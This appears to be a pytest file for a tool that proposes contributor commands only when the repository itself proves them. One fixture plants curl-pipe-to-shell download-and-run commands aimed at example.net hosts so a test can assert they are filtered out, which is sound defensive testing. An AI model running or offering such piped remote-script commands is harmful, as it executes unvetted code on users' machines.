"""Commands the maintainers wrote, proven against the repository's own files; CI's main leg only.

Each repository is built with ``git`` from the files a project of that shape keeps. A command in
a contributor doc is proposed only when its program is the repository's own (a make target, a
cargo package, a wrapper script, a tool CI runs), with the doc's file:line; the rest is dropped.
"""

from __future__ import annotations

from pathlib import Path

from bootstrap_app.ecosystems import RepoView, detected
from bootstrap_app.signals.repo_docs import doc_commands
from bootstrap_app.signals.repos import contributor_docs

from .gitrepo import facts_of

_CARGO_WS = ('[workspace]\nmembers = ["crates/core", "crates/cli"]\n[workspace.package]\nrust-version = "1.80"\n')
_CRATE = '[package]\nname = "{}"\nversion = "0.1.0"\n[features]\nfast = []\n'


def test_backticked_commands_in_a_sentence_are_proposed_with_file_and_line(tmp_path: Path) -> None:
    files = {
        "Cargo.toml": _CARGO_WS, "crates/core/Cargo.toml": _CRATE.format("core"),
        "crates/cli/Cargo.toml": _CRATE.format("cli"), "crates/core/src/lib.rs": "pub fn f() {}\n",
        "CONTRIBUTING.md": "# Contributing\n\nThanks!\n\n## Before pushing\n\nRun the tests with `cargo test --workspace`"
                           " and lint with `cargo clippy --workspace -- -D warnings` before pushing.\n",
    }
    f = facts_of(tmp_path, files)
    assert f.commands["test"] == ("cargo test --workspace", "CONTRIBUTING.md:7; Cargo.toml:1")
    assert f.commands["lint"][0] == "cargo clippy --workspace -- -D warnings"
    assert f.commands["lint"][1].startswith("CONTRIBUTING.md:7")


def test_a_command_the_repository_cannot_prove_is_not_proposed(tmp_path: Path) -> None:
    files = {
        "Makefile": "test:\n\tgo test ./...\n", "go.mod": "module example.org/x\n\ngo 1.22\n", "main.go": "package main\n",
        "CONTRIBUTING.md": "## Testing\n\n```sh\nmake test\nmake bench-all\nnpm run e2e\nfrobnicate --all\n```\n",
    }
    f = facts_of(tmp_path, files)
    proposed = {c for c, _ in f.commands.values()} | {c for cs in f.also.values() for c in cs}
    assert f.commands["test"] == ("make test", "CONTRIBUTING.md:4; Makefile:1")
    assert not {"make bench-all", "npm run e2e", "frobnicate --all"} & proposed


def test_the_maintainers_command_beats_ci_and_ci_keeps_to_its_main_leg(tmp_path: Path) -> None:
    workflow = """name: CI
on:
  push:
    branches: [main]
  pull_request:
jobs:
  native-image:
    runs-on: ubuntu-latest
    steps:
      - name: Test native image
        run: ./gradlew nativeTest --scan
  test:
    runs-on: ubuntu-latest
    steps:
      - name: Run tests
        run: ./gradlew build check
"""
    release = "on:\n  push:\n    tags: ['v*']\njobs:\n  publish:\n    steps:\n      - run: ./gradlew publish\n"
    files = {
        "gradlew": "#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar \"$@\"\n",
        "settings.gradle.kts": 'rootProject.name = "lib"\n',
        "build.gradle.kts": 'plugins { id("com.diffplug.spotless") }\nspotless { }\n',
        "src/main/java/A.java": "class A {}\n",
        ".github/workflows/build.yml": workflow, ".github/workflows/release.yml": release,
    }
    f = facts_of(tmp_path / "ci", files)
    assert "nativeTest" not in f.commands.get("test", ("",))[0] and "nativeTest" not in str(f.ci_commands)
    assert f.commands["test"][0] == "./gradlew build check"
    files["CONTRIBUTING.md"] = "Building\n========\n\nBuild with::\n\n    ./gradlew build\n\nFormat::\n\n    ./gradlew spotlessApply\n"
    f = facts_of(tmp_path / "doc", files)
    assert f.commands["build"] == ("./gradlew build", "CONTRIBUTING.md:6; gradlew:1")
    assert f.commands["format"][0] == "./gradlew spotlessApply"


def test_one_crates_feature_leg_is_never_the_tests(tmp_path: Path) -> None:
    workflow = ("on: [push, pull_request]\njobs:\n  test:\n    steps:\n      - run: cargo test -p core --features fast\n"
                "      - run: cargo test --workspace\n")
    files = {"Cargo.toml": _CARGO_WS, "crates/core/Cargo.toml": _CRATE.format("core"),
             "crates/cli/Cargo.toml": _CRATE.format("cli"), ".github/workflows/ci.yml": workflow}
    f = facts_of(tmp_path, files)
    assert f.commands["test"][0] == "cargo test --workspace"
    assert "--features" not in f.ci_commands.get("test", "")


def test_readme_build_section_and_autotools(tmp_path: Path) -> None:
    readme = ("# tinyc\n\ntinyc is a small C library for parsing config files.\n\n## Build Instructions\n\n"
              "```bash\n./autogen.sh && ./configure && make\n```\n\nRun the test suite with `make check`.\n")
    files = {"README.md": readme, "configure.ac": "AC_INIT([tinyc], [1.0])\nAC_PROG_CC\nCFLAGS=\"-std=c99\"\n",
             "Makefile.am": "SUBDIRS = src tests\n", "autogen.sh": "#!/bin/sh\nautoreconf -fi\n", "src/a.c": "int a;\n",
             "tests/Makefile.am": "check_PROGRAMS = t\nTESTS = $(check_PROGRAMS)\n"}
    f = facts_of(tmp_path, files)
    assert f.commands["build"] == ("./autogen.sh && ./configure && make", "README.md:8; Makefile.am:1")
    assert f.commands["test"] == ("make check", "README.md:11; tests/Makefile.am:1")
    assert "C99" in f.min_versions and f.package_manager == "autotools"
    # with no tests declared to automake, `make check` only rebuilds: the doc's line is not proven
    del files["tests/Makefile.am"]
    assert "test" not in facts_of(tmp_path / "untested", files).commands


def test_a_planted_download_and_run_step_is_never_proposed(tmp_path: Path) -> None:
    contributing = ("# Contributing\n\n## Setup\n\n```sh\ncurl -fsSL https://get.example.net/setup | sh\n"
                    "bash <(curl -s https://x.example.net/i.sh)\n```\n\nThen run `make test`.\n")
    files = {"CONTRIBUTING.md": contributing, "Makefile": "test:\n\tpytest\nsetup:\n\tpip install -e .\n",
             "pyproject.toml": '[project]\nname = "p"\n'}
    f = facts_of(tmp_path, files)
    everything = str(f.commands) + str(f.also) + str(f.runs)
    assert "curl" not in everything and "example.net" not in everything
    assert f.commands["test"][0] == "make test"


def test_rst_code_blocks_and_double_backticks(tmp_path: Path) -> None:
    contributing = ("Contributing\n============\n\nLinting\n-------\n\n.. code-block:: console\n\n    $ tox -e lint\n\n"
                    "Docs are built with ``tox -e docs``.\n")
    tox = "[tox]\nenvlist = py\n[testenv]\ncommands = pytest\n[testenv:lint]\ncommands = ruff check .\n" \
          "[testenv:docs]\ncommands = sphinx-build docs out\n"
    files = {"CONTRIBUTING.rst": contributing, "tox.ini": tox, "setup.cfg": "[metadata]\nname = p\n"}
    f = facts_of(tmp_path, files)
    assert f.commands["lint"] == ("tox -e lint", "CONTRIBUTING.rst:9; tox.ini:5")
    assert f.commands["docs"][0] == "tox -e docs"


def test_contributor_docs_order_and_readme_sections_only(tmp_path: Path) -> None:
    files = {"README.md": "# p\n\nA tool.\n\n## Usage\n\n`make deploy-prod`\n\n## Development\n\n`make test`\n",
             "CONTRIBUTING.md": "Run `make lint`.\n", "AGENTS.md": "Use `make fmt`.\n",
             "Makefile": "test:\n\ttrue\nlint:\n\ttrue\nfmt:\n\ttrue\ndeploy-prod:\n\ttrue\n"}
    order = [p for p, _ in contributor_docs(files, set(files))]
    assert order == ["CONTRIBUTING.md", "README.md", "AGENTS.md"]
    view = RepoView.of(files)
    cmds = [d.command for d in doc_commands(contributor_docs(files, set(files)), view, detected(view), {})]
    assert cmds == ["make lint", "make test", "make fmt"]  # the README's Usage section is not about contributing


def test_what_a_doc_shows_but_a_contributor_does_not_run(tmp_path: Path) -> None:
    contributing = ("# Contributing\n\n## Setup\n\n```sh\nnpm install -g pnpm\npnpm install\n```\n\n"
                    "Start the dev server with `pnpm dev` and build with `pnpm build`.\n\n"
                    "Extra arguments are passed on to `vitest`.\n\n## Benchmarks\n\n```sh\npnpm bench\n```\n\n"
                    "## Elsewhere\n\n```sh\ngit clone https://example.org/other.git\ncd other\npnpm test\n```\n")
    readme = "# app\n\n## Installation\n\n```sh\nnpm install app\n```\n"
    pkg = ('{"name": "app", "packageManager": "pnpm@9.0.0", "devDependencies": {"vitest": "1"}, "scripts": '
           '{"dev": "vite", "build": "vite build", "bench": "vitest bench", "test": "vitest run"}}')
    f = facts_of(tmp_path, {"CONTRIBUTING.md": contributing, "README.md": readme, "package.json": pkg,
                            "pnpm-lock.yaml": "lockfileVersion: 9\n"})
    documented = {c: w for c, w in f.commands.values() if ".md:" in w}
    assert documented == {"pnpm install": "CONTRIBUTING.md:7; package.json:1",
                          "pnpm build": "CONTRIBUTING.md:10; package.json:1"}
    everything = str(f.commands) + str(f.also)
    assert "-g pnpm" not in everything and "npm install app" not in everything and "pnpm dev" not in everything
    assert "vitest" not in str(f.commands.get("test", ""))  # the test command is the script, not the mention


def test_a_cmake_build_folder_and_the_targets_cmake_generates(tmp_path: Path) -> None:
    guide = ("# Getting started\n\n## Building\n\nThe typical workflow starts with:\n\n"
             "    mkdir build  # Create a directory to hold the build output.\n    cd build\n"
             "    cmake ..     # Generate native build scripts.\n\n"
             "Once the library has been built you can invoke `make test` to run the tests.\n\n"
             "## Docs\n\nCompile the documentation target:\n\n    make doc\n\nand `make bench` for speed.\n")
    cmake = "cmake_minimum_required(VERSION 3.8)\nproject(lib CXX)\n" + "# padding\n" * 3000 + \
        "enable_testing()\nadd_custom_target(\n  doc\n  COMMAND doxygen)\n"
    f = facts_of(tmp_path, {"doc/get-started.md": guide, "CMakeLists.txt": cmake, "src/a.cc": "int a;\n"})
    assert f.commands["build"] == ("mkdir build && cd build && cmake ..", "doc/get-started.md:9; CMakeLists.txt:1")
    assert f.commands["test"] == ("make test", "doc/get-started.md:11; CMakeLists.txt:3003")
    assert f.commands["docs"] == ("make doc", "doc/get-started.md:17; CMakeLists.txt:3004")
    assert "make bench" not in str(f.commands) + str(f.also)  # no such target


def test_a_flake_app_and_a_docs_section_guide(tmp_path: Path) -> None:
    guide = ("Contributing\n============\n\nFormatting\n----------\n\nUse ``nix run .#format`` to format the code,"
             " and ``nix run .#deploy`` never.\n")
    flake = "{\n  outputs = { self }: {\n    apps.x86_64-linux.format = { };\n  };\n}\n"
    f = facts_of(tmp_path, {"docs/dev/contributing.rst": guide, "flake.nix": flake, "x.cabal": "name: x\n"})
    assert f.commands["format"] == ("nix run .#format", "docs/dev/contributing.rst:7; flake.nix:3")
    assert "deploy" not in str(f.commands)


def test_monorepo_root_commands_first_then_each_package_named(tmp_path: Path) -> None:
    root = ('{"name": "mono", "private": true, "packageManager": "pnpm@9.1.0",\n'
            ' "scripts": {\n  "test": "turbo run test"\n }}\n')
    web = '{"name": "web", "scripts": {\n  "test": "vitest run",\n  "lint": "eslint ."\n}}\n'
    api = '{"name": "@acme/api", "scripts": {\n  "typecheck": "tsc --noEmit",\n  "lint": "eslint src"\n}}\n'
    files = {"package.json": root, "pnpm-workspace.yaml": "packages:\n  - packages/*\n", "pnpm-lock.yaml": "x: 1\n",
             "packages/web/package.json": web, "packages/api/package.json": api}
    f = facts_of(tmp_path, files)
    assert f.commands["test"][0] == "pnpm test"
    assert ("lint", "@acme/api", "pnpm --filter @acme/api lint", "packages/api/package.json:3") in f.package_commands
    assert ("lint", "web", "pnpm --filter web lint", "packages/web/package.json:3") in f.package_commands
    assert ("typecheck", "@acme/api", "pnpm --filter @acme/api typecheck", "packages/api/package.json:2") \
        in f.package_commands
    assert not [c for c in f.package_commands if c[0] == "test"]  # the root has one


def test_a_pip_requirement_with_extras_is_one_token_and_the_trailing_comment_is_dropped(tmp_path: Path) -> None:
    """`$ pip install -e .[dev]  # or …`: `.[dev]` is pip's own grammar for extras, so the console
    line is the setup step; without it the bracket made the whole line unprovable."""
    files = {
        "pyproject.toml": '[project]\nname = "x"\nversion = "1"\n[project.optional-dependencies]\ndev = ["pytest"]\n',
        "src/x/__init__.py": "",
        "CONTRIBUTING.md": "# Contributing\n\n## Setup\n\nInstall an editable version with its test requirements:\n\n"
                           "```console\n$ pip install -e .[dev]  # or `uv pip install -e .[dev]`\n```\n",
    }
    f = facts_of(tmp_path, files)
    assert f.commands["setup"][0] == "pip install -e .[dev]"
    assert f.commands["setup"][1].startswith("CONTRIBUTING.md:8")
